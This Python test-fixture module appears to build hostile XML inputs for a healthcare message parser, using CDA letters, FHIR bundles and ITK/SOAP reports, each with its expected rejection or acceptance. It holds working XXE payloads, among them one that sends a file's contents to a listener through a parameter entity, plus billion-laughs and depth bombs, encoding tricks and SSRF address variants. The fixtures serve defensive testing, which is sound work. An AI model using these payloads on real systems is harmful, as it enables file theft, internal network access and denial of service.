"""XML that would have its reader open files, connect to hosts or run out of memory and time (XML 1.0, CDA R2, FHIR XML), each with
what must become of it; and documents that name addresses where others may fetch something (T33).

`bait` is what a reader must not touch: the path of a file, and the authority of a listener ("127.0.0.1:1234").
`cases(bait)` gives (name, bytes, expected): TAKEN, or the errors of the catalogue of which one must be named. Every one is a letter or a
bundle about the same patient, whole but for what the name says.
"""

import base64
import dataclasses
import itertools

TAKEN = frozenset()
BROKEN = frozenset({"message.unparseable"})
LARGE = frozenset({"message.too_large"})
CHARACTERS = frozenset({"message.character_set"})
MEBIBYTE = 1 << 20
NUMBERS = itertools.count(1)  # each is a document of its own
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>\n'


@dataclasses.dataclass(frozen=True)
class Bait:
    path: str
    host: str

    @property
    def port(self):
        return self.host.rpartition(":")[2]

    def addresses(self):
        """The same file and listener in all the ways that a reader may take for somewhere else."""
        return [
            f"http://{self.host}/x", f"https://{self.host}/x", f"HTTP://{self.host}/x", f"//{self.host}/x",
            f"http://2130706433:{self.port}/x", f"http://0x7f000001:{self.port}/x", f"http://0177.0.0.1:{self.port}/x",
            f"http://127.1:{self.port}/x", f"http://localhost:{self.port}/x", f"http://[::ffff:127.0.0.1]:{self.port}/x",
            f"http://example.invalid@{self.host}/x", f"http://{self.host}#@example.invalid/", f"ftp://{self.host}/x",
            f"gopher://{self.host}/_x", f"ldap://{self.host}/x", f"jar:http://{self.host}/x!/y", f"dict://{self.host}/x",
            f"file://{self.path}", f"FILE:{self.path}", f"file://localhost{self.path}", self.path, f"../../../../..{self.path}",
            f"\\\\127.0.0.1@{self.port}\\x",
        ]


def letter(body="<section><title>Findings</title><text>Well.</text></section>", head="", of_root="", before="", declared=DECLARED):
    number = f"0A0A0A0A-0000-4000-8000-{next(NUMBERS):012d}"
    return f"""{declared}{before}<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:npfitlc="NPFIT:HL7:Localisation" classCode="DOCCLIN" moodCode="EVN"{of_root}>
<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
<npfitlc:messageType root="2.16.840.1.113883.2.1.3.2.4.18.17" extension="POCD_MT010011GB02"/>
<id root="{number}"/>
<code code="823691000000103" codeSystem="2.16.840.1.113883.2.1.3.2.4.15" displayName="Clinical letter"/><title>Clinical letter</title>
<effectiveTime value="20250304101500+0000"/><confidentialityCode code="N" codeSystem="2.16.840.1.113883.1.11.16926"/>
<setId root="{number}"/><versionNumber value="1"/>{head}
<recordTarget><patientRole><id root="2.16.840.1.113883.2.1.4.1" extension="9990000018"/>
<patient><name><given>Aelia</given><family>Hadrian</family></name><birthTime value="19620713"/></patient></patientRole></recordTarget>
<custodian><assignedCustodian><representedCustodianOrganization><id root="2.16.840.1.113883.2.1.3.2.4.19.1" extension="ZC1"/>
</representedCustodianOrganization></assignedCustodian></custodian>
<component>{body if body.startswith("<nonXMLBody") else f"<structuredBody><component>{body}</component></structuredBody>"}</component>
</ClinicalDocument>"""


def section(text):
    return f"<section><title>Findings</title><text>{text}</text></section>"


def bundle(condition="", of_root="", before="", declared=DECLARED, more=""):
    return f"""{declared}{before}<Bundle xmlns="http://hl7.org/fhir"{of_root}><id value="x{next(NUMBERS)}"/><type value="collection"/>
<entry><resource><Patient><id value="p1"/><identifier><system value="https://fhir.nhs.uk/Id/nhs-number"/><value value="9990000018"/></identifier>
<name><family value="Hadrian"/><given value="Aelia"/></name><birthDate value="1962-07-13"/></Patient></resource></entry>
<entry><resource><Condition><id value="c1"/>{condition}<code><text value="Well"/></code><subject><reference value="Patient/p1"/></subject></Condition></resource></entry>
{more}</Bundle>"""


def report(text="Well.", before="", declared=DECLARED, to="http://localhost/report"):
    """A 111 report: the same letter in ITK's and SOAP's envelopes."""
    inner = letter(section(text), declared="")
    tracking = f"0C0C0C0C-0000-4000-8000-{next(NUMBERS):012d}"
    return f"""{declared}{before}<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:a="http://www.w3.org/2005/08/addressing">
<s:Header><a:MessageID>{tracking}</a:MessageID><a:To>{to}</a:To><a:ReplyTo><a:Address>{to}</a:Address></a:ReplyTo></s:Header><s:Body>
<itk:DistributionEnvelope xmlns:itk="urn:nhs-itk:ns:201005"><itk:header service="{to}" trackingid="{tracking}">
<itk:manifest count="1"><itk:manifestitem mimetype="text/xml" id="uuid_1" profileid="{to}"/></itk:manifest>
<itk:senderAddress uri="{to}"/></itk:header><itk:payloads count="1"><itk:payload id="uuid_1">{inner}</itk:payload></itk:payloads>
</itk:DistributionEnvelope></s:Body></s:Envelope>"""


def entities(bait):
    """Document types, in each place where an entity of theirs could be used."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = {
        "a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.path}">]>',
        "a host": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{bait.host}/e">]>',
        "a public name": f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "http://{bait.host}/e">]>',
        "a parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{bait.host}/p"> %p;]>',
        "a parameter within one": f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{bait.path}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '
                                  f"'http://{bait.host}/?%f;'>\"> %d; %s;]>",
        "an outer type": f'<!DOCTYPE x SYSTEM "http://{bait.host}/x.dtd">',
        "an outer type by name": f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://{bait.host}/x.dtd">',
        "an outer type that is a file": f'<!DOCTYPE x SYSTEM "{bait.path}">',
        "an entity of its own": '<!DOCTYPE x [<!ENTITY e "Well">]>',
        "an unparsed entity": f'<!DOCTYPE x [<!NOTATION n SYSTEM "http://{bait.host}/n"><!ENTITY e SYSTEM "file://{bait.path}" NDATA n>]>',
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]>',
        "one long entity, often": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
        "itself": '<!DOCTYPE x [<!ENTITY e "&e;">]>',
        "an attribute's default": '<!DOCTYPE x [<!ATTLIST section nullFlavor CDATA "NI">]>',
        "nothing at all": "<!DOCTYPE x>",
        "nothing, in small letters": "<!doctype x>",
    }
    uses = "&e;" * 500
    for name, declared in types.items():
        used = uses if "often" in name else "&e;"
        yield f"letter, {name}", letter(section(used), before=declared).encode(), BROKEN
        yield f"report, {name}", report(used, before=declared).encode(), BROKEN
        yield f"bundle, {name}", bundle(f'<note><text value="{used}"/></note>', before=declared).encode(), BROKEN
    yield "letter, an entity that nobody declared", letter(section("&e;")).encode(), BROKEN
    yield "bundle, HTML's entity", bundle('<note><text value="&nbsp;"/></note>').encode(), BROKEN
    yield "letter, a type behind the root", (letter() + types["a file"]).encode(), BROKEN
    yield "report, a type within the payload", report(types["a file"] + "&e;").encode(), BROKEN
    yield "letter, a type within the root", letter(section(types["a file"] + "&e;")).encode(), BROKEN
    yield "letter, XML's own entities", letter(section("&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;")).encode(), TAKEN
    yield "letter, a character that XML forbids", letter(section("&#0;")).encode(), BROKEN
    yield "letter, half a surrogate", letter(section("&#xD800;")).encode(), BROKEN


def encodings(bait):
    """The same with other bytes: a type must be seen in each, and what cannot be read for certain is refused."""
    typed = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.path}">]>'

    def declared(name):
        return f'<?xml version="1.0" encoding="{name}"?>'

    for name, mark in (("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")):
        yield f"letter in {name}", mark + letter(declared=declared("UTF-16")).encode(name), TAKEN
        yield f"letter in {name} with a type", mark + letter(section("&e;"), before=typed, declared=declared("UTF-16")).encode(name), BROKEN
        yield f"letter in {name} without a mark", letter(section("&e;"), before=typed, declared=declared("UTF-16")).encode(name), BROKEN | CHARACTERS
        yield f"letter in {name} that says UTF-8", mark + letter(declared=declared("UTF-8")).encode(name), BROKEN | CHARACTERS
    yield "letter in UTF-7", letter(section("+ADw-x+AD4-"), declared=declared("UTF-7")).encode(), CHARACTERS
    yield "a type in UTF-7", (declared("UTF-7") + typed + letter(declared="")).encode("utf-7"), CHARACTERS | BROKEN
    yield "letter in UTF-32", letter(declared=declared("UTF-32")).encode("utf-32"), CHARACTERS | BROKEN
    yield "letter in EBCDIC", letter(declared=declared("cp037")).encode("cp037"), CHARACTERS | BROKEN
    yield "letter of an unknown encoding", letter(declared=declared("x-milecastle")).encode(), CHARACTERS
    yield "letter in UTF-8 that says UTF-16", letter(declared=declared("UTF-16")).encode(), CHARACTERS | BROKEN
    yield "letter behind UTF-8's mark", b"\xef\xbb\xbf" + letter().encode(), TAKEN
    yield "letter behind two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + letter().encode(), BROKEN
    yield "letter behind a mark that says UTF-16", b"\xef\xbb\xbf" + letter(declared=declared("UTF-16")).encode(), CHARACTERS | BROKEN
    yield "letter with Latin-1 in UTF-8", letter(section("Zo\xeb")).encode("latin-1"), CHARACTERS | BROKEN
    yield "letter with an overlong <", letter(section("xx")).encode().replace(b"xx", b"\xc0\xbc"), CHARACTERS | BROKEN
    yield "letter with NUL", letter(section("x\0x")).encode(), BROKEN
    yield "letter in XML 1.1", letter(declared='<?xml version="1.1"?>').encode(), BROKEN
    yield "letter that stands alone: no", letter(declared='<?xml version="1.0" standalone="no"?>').encode(), TAKEN
    yield "a blank before the declaration", (" " + letter()).encode(), BROKEN


def blown_up():
    deep = 10**6
    yield "500,000 deep", letter("<section>" * (deep // 2) + "</section>" * (deep // 2)).encode(), LARGE
    yield "1 M deep and open", letter("<section>" * deep).encode(), LARGE | BROKEN
    yield "a narrative 1,000 deep", letter(section("<paragraph>" * 1000 + "x" + "</paragraph>" * 1000)).encode(), LARGE
    yield "100,000 attributes", letter(of_root="".join(f' a{n}="1"' for n in range(100_000))).encode(), LARGE
    yield "an attribute twice", letter(of_root=' classCode="DOCCLIN"').encode(), BROKEN
    yield "an attribute twice by two prefixes", letter(of_root=' xmlns:a="u" xmlns:b="u" a:x="1" b:x="2"').encode(), BROKEN
    yield "letter, an attribute of 1 MiB", letter(section(f'<br x="{"x" * MEBIBYTE}"/>')).encode(), TAKEN
    yield "bundle, an attribute of 1 MiB", bundle(f'<note><text value="{"x" * MEBIBYTE}"/></note>').encode(), TAKEN  # where FHIR keeps a document's bytes
    yield "a name of 1 MiB", letter(section(f'<{"n" * MEBIBYTE}/>')).encode(), LARGE
    yield "100,000 namespaces", letter(section("".join(f'<x xmlns="urn:{n}"/>' for n in range(100_000)))).encode(), LARGE
    yield "a million elements", letter(section("<br/>" * deep)).encode(), LARGE
    yield "a million comments", letter(section("<!---->" * deep)).encode(), LARGE
    yield "a comment of 10 MiB", letter(section(f'<!--{"x" * (10 * MEBIBYTE)}-->')).encode(), TAKEN
    yield "a comment that never ends", letter(section("<!--" + "-" * MEBIBYTE)).encode(), BROKEN
    yield "a CDATA that never ends", letter(section("<![CDATA[" + "]" * MEBIBYTE)).encode(), BROKEN
    yield "a million references", letter(section("&amp;" * deep)).encode(), TAKEN
    yield "a prefix without a namespace", letter(section("<a:x/>")).encode(), BROKEN
    yield "two roots", (letter() + letter(declared="")).encode(), BROKEN
    yield "cut in the middle", letter().encode()[:900], BROKEN
    yield "a tag closed by another", letter(section("<b><i></b></i>")).encode(), BROKEN


def fetchers(bait):
    """What some readers fetch, or do as it says."""
    yield "letter, a style sheet", letter(before=f'<?xml-stylesheet type="text/xsl" href="http://{bait.host}/x.xsl"?>').encode(), TAKEN
    yield "letter, a style sheet that is a file", letter(before=f'<?xml-stylesheet type="text/xsl" href="{bait.path}"?>').encode(), TAKEN
    yield "letter, an instruction within", letter(section(f'<?php readfile("{bait.path}") ?>')).encode(), BROKEN
    schema = f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:hl7-org:v3 http://{bait.host}/x.xsd"'
    yield "letter, a schema", letter(of_root=schema).encode(), TAKEN
    yield "bundle, a schema", bundle(of_root=schema.replace("urn:hl7-org:v3", "http://hl7.org/fhir")).encode(), TAKEN
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.path}" parse="text"/>'
    yield "letter, XInclude", letter(section(include)).encode(), TAKEN
    yield "bundle, XInclude", bundle(f'<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">{include}</div></text>').encode(), TAKEN
    yield "letter, a base", letter(of_root=f' xml:base="http://{bait.host}/"').encode(), TAKEN
    for at, address in enumerate(bait.addresses()):
        address = address.replace("&", "&amp;")
        image = f'<observationMedia ID="M"><value mediaType="image/png"><reference value="{address}"/></value></observationMedia>'
        media = f'<renderMultiMedia referencedObject="M"/><linkHtml href="{address}">x</linkHtml><img src="{address}"/>'
        yield f"letter, media {at}", letter(f"<section><text>{media}</text><entry>{image}</entry></section>").encode(), TAKEN
        yield f"report, addresses {at}", report(to=address).encode(), TAKEN
        body = f'<nonXMLBody><text mediaType="application/pdf"><reference value="{address}"/></text></nonXMLBody>'
        yield f"letter, body {at}", letter(body).encode(), TAKEN
        narrative = f'<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><a href="{address}">x</a><img src="{address}"/></div></text>'
        content = base64.b64encode(b"x").decode()
        document = (f'<entry><fullUrl value="{address}"/><resource><DocumentReference><id value="d1"/><status value="current"/>'
                    f'<subject><reference value="Patient/p1"/></subject><author><reference value="{address}"/></author><content><attachment>'
                    f'<contentType value="text/plain"/><data value="{content}"/><url value="{address}"/></attachment></content>'
                    f'</DocumentReference></resource></entry>')
        yield f"bundle, addresses {at}", bundle(narrative, more=document).encode(), TAKEN


def cases(bait):
    yield from entities(bait)
    yield from encodings(bait)
    yield from blown_up()
    yield from fetchers(bait)
